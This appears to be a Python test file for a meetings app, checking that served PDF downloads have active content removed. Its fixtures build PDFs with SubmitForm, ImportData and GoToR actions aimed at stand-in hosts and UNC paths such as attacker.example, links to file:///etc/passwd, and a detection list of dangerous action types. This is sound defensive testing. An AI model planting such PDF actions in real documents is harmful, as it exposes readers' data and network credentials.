"""Active content is removed from served copies (issue #14 §3), proved on the bytes the API
download endpoint serves, parsed with pikepdf. The stored file stays what its author sent."""

from __future__ import annotations

import hashlib
import io

import pikepdf
import pytest

from meetings.models import Document

from .pdfs import make_pdf
from .test_api_documents import post_document

N = pikepdf.Name
ACTING = {"/URI", "/Launch", "/GoToR", "/GoToE", "/SubmitForm", "/ImportData", "/ResetForm", "/JavaScript",
          "/Rendition", "/Sound", "/Movie", "/Thread"}


def _with(change) -> bytes:
    with pikepdf.open(io.BytesIO(make_pdf(pages=2))) as pdf:
        change(pdf)
        out = io.BytesIO()
        pdf.save(out)
    return out.getvalue()


def _open_action(action: pikepdf.Dictionary):
    def change(pdf):
        pdf.Root.OpenAction = action
    return change


def _link(action: pikepdf.Dictionary, **extra):
    def change(pdf):
        link = pikepdf.Dictionary(Type=N.Annot, Subtype=N.Link, Rect=[72, 72, 300, 100], A=action, **extra)
        pdf.pages[0].obj.Annots = pikepdf.Array([pdf.make_indirect(link)])
    return change


def _page_aa(pdf):
    pdf.pages[1].obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=N.URI, URI=pikepdf.String("https://t.example/o")))


def _outline_uri(pdf):
    action = pdf.make_indirect(pikepdf.Dictionary(S=N.URI, URI=pikepdf.String("https://t.example/outline")))
    item = pdf.make_indirect(pikepdf.Dictionary(Title=pikepdf.String("Mục 1"), A=action))
    pdf.Root.Outlines = pdf.make_indirect(pikepdf.Dictionary(Type=N.Outlines, First=item, Last=item, Count=1))
    item.Parent = pdf.Root.Outlines


def _next_chain(pdf):
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=N.GoTo, D=pikepdf.Array([pdf.pages[0].obj, N.Fit]),
        Next=pikepdf.Dictionary(S=N.SubmitForm, F=pikepdf.String("https://t.example/collect")))


def _form_field_aa(pdf):
    field = pdf.make_indirect(pikepdf.Dictionary(
        FT=N.Tx, T=pikepdf.String("ten"), Type=N.Annot, Subtype=N.Widget, Rect=[72, 200, 300, 220],
        AA=pikepdf.Dictionary(K=pikepdf.Dictionary(S=N.ImportData, F=pikepdf.String("\\\\attacker\\share\\x.fdf")))))
    pdf.pages[0].obj.Annots = pikepdf.Array([field])
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))


def _external_stream(pdf):
    stream = pdf.make_indirect(pikepdf.Stream(pdf, b""))
    stream.F = pikepdf.Dictionary(FS=N.URL, F=pikepdf.String("https://t.example/content"))
    stream.FFilter = N.FlateDecode
    stream.FDecodeParms = pikepdf.Dictionary(Predictor=1)
    pdf.pages[0].obj.Contents = pikepdf.Array([pdf.pages[0].obj.Contents, stream])


def _reference_xobject(pdf):
    form = pdf.make_indirect(pikepdf.Stream(pdf, b"0 0 10 10 re f"))
    form.Type, form.Subtype, form.BBox = N.XObject, N.Form, pikepdf.Array([0, 0, 10, 10])
    form.Ref = pikepdf.Dictionary(F=pikepdf.String("\\\\host\\share\\x.pdf"), Page=0)
    pdf.pages[0].add_resource(form, N.XObject, N.Fx)


def _opi_image(pdf):
    image = pdf.make_indirect(pikepdf.Stream(pdf, b"\0"))
    image.Type, image.Subtype, image.Width, image.Height = N.XObject, N.Image, 1, 1
    image.ColorSpace, image.BitsPerComponent = N.DeviceGray, 8
    image.OPI = pikepdf.Dictionary({"/2.0": pikepdf.Dictionary(Type=N.OPI, Version=2.0,
                                                               F=pikepdf.String("\\\\host\\hires\\a.tif"))})
    pdf.pages[0].add_resource(image, N.XObject, N.Im9)


def _safe_link_with_uri(pdf):
    _link(pikepdf.Dictionary(S=N.GoTo, D=pikepdf.Array([pdf.pages[1].obj, N.Fit])),
          URI=pikepdf.String("file:///etc/passwd"))(pdf)


ACTIVE = [
    ("OpenAction Named Print", _open_action(pikepdf.Dictionary(S=N.Named, N=N.Print))),
    ("external stream (/F URL, /FFilter, /FDecodeParms)", _external_stream),
    ("reference XObject to a UNC path", _reference_xobject),
    ("image OPI dictionary with a UNC /F", _opi_image),
    ("a /URI key on a link whose action is a safe GoTo", _safe_link_with_uri),
    ("OpenAction URI", _open_action(pikepdf.Dictionary(S=N.URI, URI=pikepdf.String("https://t.example/open")))),
    ("OpenAction SubmitForm", _open_action(pikepdf.Dictionary(
        S=N.SubmitForm, F=pikepdf.Dictionary(FS=N.URL, F=pikepdf.String("https://t.example/submit"))))),
    ("OpenAction GoToR to a UNC path", _open_action(pikepdf.Dictionary(
        S=N.GoToR, F=pikepdf.String("\\\\attacker.example\\share\\lure.pdf"), D=pikepdf.Array([0, N.Fit])))),
    ("OpenAction ImportData", _open_action(pikepdf.Dictionary(S=N.ImportData, F=pikepdf.String("data.fdf")))),
    ("OpenAction ResetForm", _open_action(pikepdf.Dictionary(S=N.ResetForm))),
    ("OpenAction GoToE", _open_action(pikepdf.Dictionary(S=N.GoToE, F=pikepdf.String("other.pdf")))),
    ("OpenAction Rendition", _open_action(pikepdf.Dictionary(S=N.Rendition, OP=0))),
    ("link to file:///", _link(pikepdf.Dictionary(S=N.URI, URI=pikepdf.String("file:///C:/Windows/win.ini")))),
    ("link to a tracking URL with a stray /URI",
     _link(pikepdf.Dictionary(S=N.URI, URI=pikepdf.String("https://t.example/l")), URI=pikepdf.String("https://x"))),
    ("page open action (/AA)", _page_aa),
    ("outline item with a URI action", _outline_uri),
    ("SubmitForm at the end of a /Next chain", _next_chain),
    ("form field keystroke ImportData to a UNC path", _form_field_aa),
]


def _served(cast, data: bytes) -> tuple[Document, bytes]:
    response = post_document(cast.client(cast.secretary), cast.item, data)
    assert response.status_code == 201, response.content
    document = Document.objects.get(pk=response.json()["id"])
    cast.set_status("published")
    download = cast.client(cast.member).get(f"/api/v1/documents/{document.pk}/download/")
    assert download.status_code == 200
    return document, download.content


NAVIGATION = {"/NextPage", "/PrevPage", "/FirstPage", "/LastPage"}
CONTAINERS = (pikepdf.Dictionary, pikepdf.Stream, pikepdf.Array)


def _acting_content(data: bytes) -> list[str]:
    """Everything in ``data`` that could act: a description of each, empty when there is none."""
    found = []
    with pikepdf.open(io.BytesIO(data)) as pdf:
        open_action = pdf.Root.get("/OpenAction")
        if isinstance(open_action, pikepdf.Dictionary) and str(open_action.get("/S")) not in ("/GoTo", "None"):
            found.append(f"OpenAction {open_action.get('/S')}")
        stack = list(pdf.objects)
        seen = set()
        while stack:
            obj = stack.pop()
            if isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
                if obj.is_indirect:
                    if obj.objgen in seen:
                        continue
                    seen.add(obj.objgen)
                if "/AA" in obj:
                    found.append("AA")
                if str(obj.get("/S")) in ACTING:
                    found.append(f"action {obj.get('/S')}")
                if "/URI" in obj:
                    found.append("URI key")
                if str(obj.get("/S")) == "/Named" and str(obj.get("/N")) not in NAVIGATION:
                    found.append(f"named action {obj.get('/N')}")
                for key in ("/Ref", "/OPI"):
                    if key in obj:
                        found.append(f"{key} dictionary")
                if isinstance(obj, pikepdf.Stream):
                    found.extend(f"external stream {key}" for key in ("/F", "/FFilter", "/FDecodeParms") if key in obj)
                for key in ("/F", "/UF"):
                    value = obj.get(key)
                    if isinstance(value, pikepdf.String) and ("file:" in str(value) or "\\\\" in str(value)):
                        found.append(f"file spec {value}")
                stack.extend(v for _k, v in obj.items() if isinstance(v, CONTAINERS))
            elif isinstance(obj, pikepdf.Array):
                stack.extend(v for v in obj if isinstance(v, CONTAINERS))
    return found


@pytest.mark.parametrize(("case", "change"), ACTIVE, ids=[c[0] for c in ACTIVE])
def test_it_removes_active_content_from_the_served_copy_and_keeps_the_original(cast, case, change):
    data = _with(change)
    assert _acting_content(data), "the test file carries nothing to remove"
    document, served = _served(cast, data)
    assert _acting_content(served) == []
    with document.current_version.file.open("rb") as handle:
        assert hashlib.sha256(handle.read()).hexdigest() == hashlib.sha256(data).hexdigest()


def test_it_keeps_links_that_stay_inside_the_document(cast):
    def change(pdf):
        _link(pikepdf.Dictionary(S=N.GoTo, D=pikepdf.Array([pdf.pages[1].obj, N.Fit])))(pdf)
        pdf.Root.OpenAction = pikepdf.Dictionary(S=N.Named, N=N.NextPage)
    _document, served = _served(cast, _with(change))
    with pikepdf.open(io.BytesIO(served)) as pdf:
        link = pdf.pages[0].obj.Annots[0]
        assert N.GoTo == link.A.S and link.A.D[0].objgen == pdf.pages[1].obj.objgen
        assert N.NextPage == pdf.Root.OpenAction.N
